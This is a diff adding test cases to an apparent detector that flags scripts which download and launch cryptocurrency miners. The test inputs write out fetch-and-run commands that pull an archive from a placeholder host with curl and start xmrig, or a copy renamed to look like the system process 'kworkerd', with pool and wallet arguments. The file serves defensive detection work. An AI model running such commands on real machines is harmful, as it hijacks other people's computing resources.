@@ -24,6 +24,22 @@ describe('miner-download', () => {
     const { sightings } = runExtractor(minerDownload, { name: 'case', kind: 'script', input });
     expect(sightings.map(({ kind }) => kind)).toEqual(['download']);
   });
+  it.each([
+    ['./kworkerd', "fetches http://h.example/k.tgz with curl and starts it with a miner's arguments: ./kworkerd"],
+    ['./xmrig', "fetches http://h.example/k.tgz with curl and starts it with a miner's arguments: ./xmrig"],
+  ])('tells what is fetched and how it is started, once: %s', (program, words) => {
+    const wallet = `4${'8'.repeat(94)}`;
+    const input = `curl -O http://h.example/k.tgz\n${program} -o p.example:1 -u ${wallet} --donate-level 1\n`;
+    const { sightings } = runExtractor(minerDownload, { name: 'case', kind: 'script', input });
+    const traits = sightings.flatMap((seen) => (seen.kind === 'miner-code' ? seen.value.traits : []));
+    expect(traits).toEqual([`${words} -o p.example:1 -u 48888888… --donate-level 1`]);
+  });
+  it('says that a long command is cut', () => {
+    const input = `curl -O http://h.example/xmrig\n./xmrig ${'-o p.example:1 '.repeat(40)}\n`;
+    const { sightings } = runExtractor(minerDownload, { name: 'case', kind: 'script', input });
+    const traits = sightings.flatMap((seen) => (seen.kind === 'miner-code' ? seen.value.traits : []));
+    expect(traits[0]).toMatch(/known for a miner by its name \(xmrig\), and starts it: .{159}…$/);
+  });
   it('reports a gap where a script fetches more than is kept', () => {
     const input = 'curl -O http://h.example/xmrig\n'.repeat(300);
     expect(runExtractor(minerDownload, { name: 'case', kind: 'script', input }).misses).toMatchObject([
